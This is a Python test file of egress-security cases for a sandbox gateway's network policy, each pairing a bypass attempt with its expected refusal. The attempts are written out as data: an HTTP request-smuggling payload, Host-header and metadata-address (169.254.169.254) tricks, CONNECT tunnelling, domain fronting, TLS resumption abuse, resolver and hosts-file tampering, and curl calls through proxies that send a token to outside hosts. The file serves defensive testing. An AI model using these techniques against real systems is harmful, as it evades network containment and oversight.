"""The cases of HTTP, TLS and mail, and of what a cell can edit of its own."""

from __future__ import annotations

from typing import Final

from tests.security.egress.case import Case, get
from tests.security.egress.evidence import (
    Attempt,
    Both,
    Counted,
    Either,
    Http,
    NeverSent,
    Reached,
    Refused,
    Tls,
    Word,
)

_OTHER: Final = "the name has another address"


_UNKNOWN: Final = "the policy does not have this name"


WEB: Final = (
    Case(
        "http",
        "a stand-in by name",
        ("http", "{shop}", "80", get("shop.example")),
        "answered",
        Both((Http("/{token}", stand_in="shop"), Reached("{shop}", "80"))),
    ),
    Case(
        "http-case",
        "its name in mixed case, with a dot at the end and the port",
        ("http", "{shop}", "80", get("ShOp.Example.:80")),
        "answered",
        Http("/{token}", stand_in="shop"),
    ),
    Case(
        "http-by-address",
        "a stand-in by its address",
        ("http", "{shop}", "80", get("{shop}")),
        "refused",
        Http("/{token}", "Host is an address"),
    ),
    Case(
        "http-other-host",
        "Host of another stand-in",
        ("http", "{shop}", "80", get("pay.shop.example")),
        "refused",
        Http("/{token}", _OTHER),
    ),
    Case(
        "http-unknown-host",
        "Host that nobody has",
        ("http", "{shop}", "80", get("{token}.test")),
        "refused",
        Http("/{token}", _UNKNOWN),
    ),
    Case(
        "http-private-host",
        "Host of a private address (rebinding)",
        ("http", "{shop}", "80", get("127.0.0.1")),
        "refused",
        Http("/{token}", "Host is an address"),
    ),
    Case(
        "http-number-host",
        "Host of a loopback address, written as one number",
        ("http", "{shop}", "80", get("2130706433")),
        "refused",
        Http("/{token}", "Host is no host name"),
    ),
    Case(
        "http-ipv6-host",
        "Host of an IPv6 address",
        ("http", "{shop}", "80", get("[::1]")),
        "refused",
        Http("/{token}", "Host is an address"),
    ),
    Case(
        "http-mapped-host",
        "Host of an IPv4 address written as IPv6",
        ("http", "{shop}", "80", get("[::ffff:169.254.169.254]:80")),
        "refused",
        Http("/{token}", "Host is an address"),
    ),
    Case(
        "http-idn",
        "Host with bytes beyond ASCII (shöp)",
        ("http", "{shop}", "80", get("sh\xc3\xb6p.example")),
        "refused",
        Http("/{token}", "Host is no host name"),
    ),
    Case(
        "http-two-labels",
        "Host with two labels under the wildcard",
        ("http", "{wild}", "80", get("a.b.shop.example")),
        "refused",
        Http("/{token}", _UNKNOWN),
    ),
    Case(
        "http-other-port",
        "Host with another port",
        ("http", "{shop}", "80", get("shop.example:8080")),
        "refused",
        Http("/{token}", "the port in Host is not the one that was dialled"),
    ),
    Case(
        "http-userinfo",
        "Host with a user and another host behind",
        ("http", "{shop}", "80", get("shop.example@{token}.test")),
        "refused",
        Http("/{token}", "Host is no host name"),
    ),
    Case(
        "http-no-host",
        "no Host (HTTP/1.0)",
        ("http", "{wild}", "80", "GET /{token} HTTP/1.0||"),
        "refused",
        Http("/{token}", "no Host"),
    ),
    Case(
        "http-absolute",
        "an absolute target of a name outside",
        ("http", "{shop}", "80", get("shop.example", "http://{token}.test/{token}")),
        "refused",
        Http("/{token}", "Host and target differ"),
    ),
    Case(
        "http-absolute-both",
        "the same, in Host too",
        ("http", "{shop}", "80", get("{token}.test", "http://{token}.test/{token}")),
        "refused",
        Http("/{token}", _UNKNOWN),
    ),
    Case(
        "http-absolute-own",
        "an absolute target of the stand-in's own name",
        ("http", "{shop}", "80", get("shop.example", "http://shop.example/{token}")),
        "answered",
        Http("/{token}", stand_in="shop"),
    ),
    Case(
        "http-absolute-scheme",
        "an absolute target of another scheme",
        ("http", "{shop}", "80", get("shop.example", "https://shop.example/{token}")),
        "refused",
        Http("/{token}", "the target's scheme is another"),
    ),
    Case(
        "connect",
        "CONNECT through the gateway",
        ("http", "{shop}", "80", "CONNECT {token}.test:443 HTTP/1.1|Host: {token}.test:443||"),
        "refused",
        Http("{token}.test:443", "CONNECT"),
    ),
    Case(
        "connect-own",
        "CONNECT to the gateway's own other service",
        ("http", "{shop}", "80", "CONNECT {resolver}:53 HTTP/1.1|Host: {resolver}:53|X: {token}||"),
        "refused",
        Http("{resolver}:53", "CONNECT"),
    ),
    Case(
        "connect-tls",
        "CONNECT within TLS",
        (
            "tls",
            "{shop}",
            "443",
            "shop.example",
            "CONNECT {token}.test:22 HTTP/1.1|Host: {token}.test:22||",
        ),
        "refused",
        Http("{token}.test:22", "CONNECT"),
    ),
    Case(
        "http-smuggled",
        "a second request hidden in the first one's framing",
        (
            "http",
            "{shop}",
            "80",
            (
                "POST /{token} HTTP/1.1|Host: shop.example|Content-Length: 6|Transfer-Encoding:"
                " chunked||0||GET /hidden{token} HTTP/1.1|Host: {token}.test||"
            ),
        ),
        "refused, nothing of it seen as a request",
        Both(
            (
                Word(("HTTP/1.1 400", "closed", "ECONNRESET")),
                Http("http://{shop}:80", "both Content-Length and Transfer-Encoding"),
            )
        ),
    ),
    Case(
        "http-h2c",
        "an upgrade to HTTP/2 without TLS",
        (
            "http",
            "{pay}",
            "80",
            (
                "GET /{token} HTTP/1.1|Host: pay.shop.example|Connection: Upgrade,"
                " HTTP2-Settings|Upgrade: h2c|HTTP2-Settings: AAMAAABkAAQAAP__||"
            ),
        ),
        "refused",
        Http("http://{pay}:80", "an upgrade to HTTP/2"),
    ),
    Case(
        "websocket",
        "a WebSocket to a name outside",
        (
            "http",
            "{shop}",
            "80",
            (
                "GET /{token} HTTP/1.1|Host: {token}.test|Connection: Upgrade|Upgrade:"
                " websocket|Sec-WebSocket-Version: 13|Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==||"
            ),
        ),
        "refused",
        Http("/{token}", _UNKNOWN),
    ),
    Case(
        "https",
        "a stand-in by name",
        ("tls", "{shop}", "443", "shop.example", get("shop.example")),
        "answered",
        Both(
            (Tls("shop.example", "{shop}"), Http("https://shop.example/{token}", stand_in="shop"))
        ),
    ),
    Case(
        "https-wildcard",
        "a name of the wildcard's",
        ("tls", "{wild}", "443", "{token}.shop.example", get("{token}.shop.example")),
        "answered",
        Both((Tls("{token}.shop.example", "{wild}"), Http("/{token}", stand_in="shop"))),
    ),
    Case(
        "https-no-name",
        "HTTPS by address without a name",
        ("tls", "{pay}", "443", "-"),
        "an alert, on record",
        Tls("", "{pay}", "no SNI"),
    ),
    Case(
        "https-unknown",
        "a ClientHello for a name outside",
        ("tls", "{shop}", "443", "{token}.test"),
        "an alert, on record",
        Tls("{token}.test", "{shop}", _UNKNOWN),
    ),
    Case(
        "https-elsewhere",
        "a ClientHello for a name with another address",
        ("tls", "{pay}", "443", "shop.example"),
        "an alert, on record",
        Tls("shop.example", "{pay}", _OTHER),
    ),
    Case(
        "https-two-labels",
        "a ClientHello with two labels under the wildcard",
        ("tls", "{wild}", "443", "a.{token}.shop.example"),
        "an alert, on record",
        Tls("a.{token}.shop.example", "{wild}", _UNKNOWN),
    ),
    Case(
        "https-idn",
        "a ClientHello for a name that looks like the policy's (shöp)",
        ("tls", "{shop}", "443", "xn--shp-sna.example"),
        "an alert, on record",
        Tls("xn--shp-sna.example", "{shop}", _UNKNOWN),
    ),
    Case(
        "https-fronting",
        "SNI of a stand-in, Host outside (domain fronting)",
        ("tls", "{shop}", "443", "shop.example", get("{token}.test")),
        "refused",
        Http("/{token}", "SNI and Host differ"),
    ),
    Case(
        "https-fronting-inside",
        "SNI of one stand-in, Host of another",
        ("tls", "{shop}", "443", "shop.example", get("pay.shop.example")),
        "refused",
        Http("/{token}", "SNI and Host differ"),
    ),
    Case(
        "https-resumed",
        "a session resumed under another name (TLS 1.2)",
        ("resume", "{wild}", "443", "{token}.shop.example", "{token}.test", "later"),
        "an alert, on record under that name",
        Both((Tls("{token}.shop.example", "{wild}"), Tls("{token}.test", "{wild}", _UNKNOWN))),
    ),
    Case(
        "https-resumed-early",
        "the same on a connection that began before the session",
        ("resume", "{wild}", "443", "{token}.shop.example", "{token}.test", "early"),
        "closed, or an alert, on record",
        Either(
            (
                Tls("{token}.shop.example", "{wild}", "a resumed session", only=False),
                Tls("{token}.test", "{wild}", _UNKNOWN),
            )
        ),
    ),
    Case(
        "https-absolute",
        "an absolute target outside, within TLS",
        (
            "tls",
            "{shop}",
            "443",
            "shop.example",
            get("shop.example", "https://{token}.test/{token}"),
        ),
        "refused",
        Http("/{token}", "Host and target differ"),
    ),
    Case(
        "h2-prior",
        "HTTP/2 by prior knowledge, for a name outside",
        ("h2", "{wild}", "443", "{token}.shop.example", "{token}.test", "/{token}"),
        "refused",
        Http("https://{token}.shop.example:443", "another version of HTTP than 1.0 and 1.1"),
    ),
    Case(
        "https-plain",
        "HTTP without TLS at the port of TLS",
        ("http", "{wild}", "443", get("{token}.shop.example")),
        "closed, on record",
        Tls("", "{wild}", "HTTP_REQUEST"),
    ),
    Case(
        "mail",
        "a mail to somebody outside",
        ("mail", "{mail}", "25", "model@shop.example", "{token}@outside.test", "{token}"),
        "accepted, recorded, never sent",
        Attempt("mail", "{token}@outside.test"),
    ),
)


OWN_FILES: Final = (
    Case(
        "hosts-public",
        "/etc/hosts gives a name a public address",
        (
            "with_hosts",
            "203.0.113.80 {token}.test",
            "resolve_and_connect",
            "{token}.test",
            "{port}",
        ),
        "RST",
        Refused("address", "203.0.113.80"),
        alone=True,
    ),
    Case(
        "hosts-lan",
        "/etc/hosts gives a stand-in's name an address of the host's",
        ("with_hosts", "{lan} shop.example", "resolve_and_connect", "shop.example", "{ear}"),
        "RST",
        Refused("forbidden", "{lan}", "{ear}"),
        alone=True,
    ),
    Case(
        "hosts-stand-in",
        "/etc/hosts gives a name outside a stand-in's address",
        ("with_hosts", "{shop} {token}.test", "http", "{token}.test", "80", get("{token}.test")),
        "refused: the name isn't the policy's",
        Http("/{token}", _UNKNOWN),
        alone=True,
    ),
    Case(
        "resolver-public",
        "/etc/resolv.conf names a public resolver",
        ("with_resolver", "203.0.113.54", "resolve", "{token}.test"),
        "refused",
        Refused("udp", "203.0.113.54", "53", "udp"),
        alone=True,
    ),
    Case(
        "resolver-lan",
        "/etc/resolv.conf names the host's network",
        ("with_resolver", "{lan}", "resolve", "{token}.test"),
        "refused",
        Refused("forbidden", "{lan}", "53", "udp"),
        alone=True,
    ),
    Case(
        "resolver-own",
        "a resolver of one's own says where a name is",
        (
            "with_own_resolver",
            "127.0.0.1",
            "203.0.113.81",
            "resolve_and_connect",
            "{token}.test",
            "{port}",
        ),
        "RST",
        Refused("address", "203.0.113.81"),
        alone=True,
    ),
    Case(
        "resolver-own-lan",
        "the same with an address of the host's",
        (
            "with_own_resolver",
            "127.0.0.2",
            "{lan}",
            "resolve_and_connect",
            "shop.example",
            "{port}",
        ),
        "RST",
        Refused("forbidden", "{lan}"),
        alone=True,
    ),
    Case(
        "proxy-http",
        "http_proxy is a stand-in",
        (
            "run",
            "http_proxy=http://shop.example:80",
            "curl",
            "-s",
            "-m",
            "20",
            "http://{token}.test/{token}",
        ),
        "refused",
        Http("http://{token}.test/{token}", _UNKNOWN),
    ),
    Case(
        "proxy-https",
        "https_proxy is a stand-in",
        (
            "run",
            "https_proxy=http://shop.example:80",
            "curl",
            "-s",
            "-m",
            "20",
            "https://{token}.test/",
        ),
        "refused",
        Http("{token}.test:443", "CONNECT"),
    ),
    Case(
        "proxy-gateway",
        "the proxy is the gateway's address, at a proxy's port",
        ("http", "{resolver}", "3128", get("{token}.test", "http://{token}.test/")),
        "RST",
        Refused("port", "{resolver}", "3128"),
    ),
    Case(
        "proxy-socks",
        "a SOCKS proxy outside, which resolves names itself",
        (
            "run",
            "ALL_PROXY=socks5h://203.0.113.82:1080",
            "curl",
            "-s",
            "-m",
            "20",
            "http://{token}.test/",
        ),
        "RST",
        Refused("address", "203.0.113.82", "1080"),
    ),
    Case(
        "proxy-ignored",
        "no proxy at all: straight to an address",
        ("http", "203.0.113.83", "{port}", get("{token}.test")),
        "RST",
        Refused("address", "203.0.113.83"),
    ),
    Case(
        "ipv6-name",
        "a name in the cell's own hosts file with an IPv6 address",
        (
            "with_hosts",
            "2001:db8::80 {token}.test",
            "resolve_and_connect",
            "{token}.test",
            "{port}",
        ),
        "no frame leaves, or it is dropped and counted",
        Either((NeverSent("ipv6"), Counted("ipv6"))),
        alone=True,
    ),
)
